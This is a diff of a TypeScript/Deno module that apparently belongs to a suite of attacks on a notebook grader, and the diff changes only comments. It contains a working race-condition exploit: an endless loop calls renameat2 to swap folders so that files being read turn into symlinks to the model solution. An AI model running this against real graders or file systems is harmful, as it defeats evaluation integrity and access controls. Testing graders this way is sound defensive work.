@@ -5,7 +5,8 @@ import { put } from "./class.ts";
 import type { Attack } from "./attack.ts";
 
 const FILES = 150;
-// Exchanges two folders, in one step each time: a path is now a file, and now a link to the model solution.
+// Exchanges two folders atomically, again and again: a path is sometimes a file, sometimes a link to the model
+// solution.
 const SCRIPT = `
 const [one, two] = Deno.args.map((path) => new TextEncoder().encode(path + "\\0"));
 const parameters = ["i32", "buffer", "i32", "buffer", "u32"], symbols = { renameat2: { parameters, result: "i32" } };
@@ -14,7 +15,9 @@ console.log("started");
 for (;;) libc.renameat2(here, one, here, two, exchange);
 `;
 
-/** Exchanges notebooks without cells, which are read quickly, for links to the model solution while they are read. */
+/**
+ * Replaces notebooks without cells, which are read quickly, with links to the model solution while they are being read.
+ */
 export const attack: Attack = {
   async folder(folder) {
     for (let n = 100; n < 100 + FILES; n++) {
